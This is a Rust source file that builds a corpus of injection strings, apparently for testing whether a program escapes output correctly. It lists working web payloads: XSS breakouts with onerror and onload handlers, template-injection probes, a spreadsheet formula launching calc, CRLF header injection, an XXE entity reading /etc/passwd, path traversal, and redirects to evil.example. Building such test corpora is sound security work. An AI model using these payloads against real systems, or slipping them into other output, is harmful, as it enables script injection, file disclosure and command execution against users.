//! Texts that end what holds them, whatever that is: an attribute, an element of text, a script, JSON, XML, a comment, a
//! template of a framework, a line of a table or of a configuration. Some are left half open.

use crate::script;

/// How the place is left.
const OUT: [&str; 24] = [
    "\">",
    "'>",
    "`>",
    ">",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</SCRIPT >",
    "<!--</script>",
    "--></script>",
    "-->",
    "]]>",
    "]]&gt;",
    "*/",
    "\\\"}]}</script>",
    "\u{2028}",
    "\u{2029}",
    "&quot;>",
    "&#34;&#62;",
    "\\u003c/script\\u003e",
    "?>",
    "</noscript>",
    "</template></main></body></html>",
];

/// What comes then.
const IN: [&str; 6] = [
    "<script>!</script>",
    "<img src=x onerror=!>",
    "<svg/onload=!>",
    "<x onfocus=! autofocus tabindex=1>",
    "<!--",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
];

/// Where no `<` is needed.
const PLAIN: [&str; 60] = [
    "\" onfocus=\"!\" autofocus tabindex=\"1",
    "' onfocus='!' autofocus tabindex='1",
    "\" style=\"position:fixed;inset:0",
    "\\\" onload=! \\",
    "\"};!;//",
    "'};!;//",
    "\"});!;({\"a\":\"",
    "\\\"});!;//",
    "`;!;`",
    "${!}",
    "\\u0022};!;//",
    "\u{2028}!//",
    "\u{2029}!//",
    "{{!}}",
    "{{constructor.constructor('!')()}}",
    "{% raw %}!{% endraw %}",
    "<%= ! %>",
    "#{!}",
    "[[!]]",
    "*{!}",
    "@{!}",
    "{!}",
    "$(!)",
    "`!`",
    "=HYPERLINK(\"//evil.example/\")",
    "=cmd|'/c calc'!A0",
    "+1;!",
    "a\tb\nc",
    "a\r\nLocation: //evil.example/",
    "a%0d%0aSet-Cookie:a=b",
    "<![CDATA[",
    "]]>",
    "]]]]><![CDATA[>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>&b;",
    "&lt;!ENTITY a 'b'&gt;",
    "&a;",
    "&#0;",
    "&#x1;",
    "&#xFFFE;",
    "&amp;lt;script&amp;gt;",
    "%3Cscript%3E!%3C/script%3E",
    "\\x3cscript\\x3e!\\x3c/script\\x3e",
    "+ADw-script+AD4-",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "//evil.example/",
    "/\\evil.example/",
    "https://thu.example@evil.example/",
    "https://thu.example.evil.example/",
    "</",
    "<",
    "<a",
    "<a href=\"",
    "<a href='",
    "<img src=x onerror=!",
    "<img src=x onerror=\"!",
    "<!--",
    "<!",
    "<?",
    "<script",
];

pub(crate) fn all() -> Vec<String> {
    let mut all = Vec::new();
    for (of, out) in OUT.iter().enumerate() {
        for (at, into) in IN.iter().enumerate() {
            let into =
                if into.starts_with("<!") { (*into).to_owned() } else { into.replace('!', script(of + at)) };
            // Markdown quotes that comment, and to a browser it never ends: what follows is not lost by an attack.
            if (*out, &*into) != (">", "<!--") {
                all.push([out, &*into].concat());
            }
        }
    }
    all.extend(PLAIN.iter().enumerate().map(|(at, text)| match text.contains("<!") {
        true => (*text).to_owned(),
        false => text.replace('!', script(at)),
    }));
    all
}
